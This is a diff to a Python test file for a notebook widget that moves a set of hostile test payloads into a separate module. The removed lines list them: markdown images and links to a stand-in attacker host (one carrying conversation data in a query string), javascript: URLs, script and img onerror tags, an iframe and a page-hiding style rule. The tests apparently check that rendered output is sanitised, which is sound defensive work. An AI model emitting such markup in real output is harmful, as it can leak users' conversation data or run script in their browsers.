@@ -16,23 +16,11 @@ from html.parser import HTMLParser
 
 import nbformat
 import pytest
+from hostile_text import ATTACKER, PAYLOADS
 from nbclient import NotebookClient
 from nbconvert import HTMLExporter
 
 import kontext_widget as kw
-
-ATTACKER = "attacker.example"
-PAYLOADS = (
-    f"![](https://{ATTACKER}/img?q=conversation)",
-    "[x](javascript:alert(1))",
-    f"<https://{ATTACKER}/autolink>",
-    f"[click me][ref]\n\n[ref]: https://{ATTACKER}/reference",
-    f'<img src="https://{ATTACKER}/raw.png" onerror="alert(1)">'
-    f'<script src="https://{ATTACKER}/x.js"></script><a href="https://{ATTACKER}/a">a</a>'
-    "<iframe srcdoc='<b>x</b>'></iframe><style>body{display:none}</style>",
-    f"$\\href{{https://{ATTACKER}/tex}}{{math link}}$",
-    f"bare https://{ATTACKER}/bare and javascript:alert(2)",
-)
 
 
 class _Page(HTMLParser):
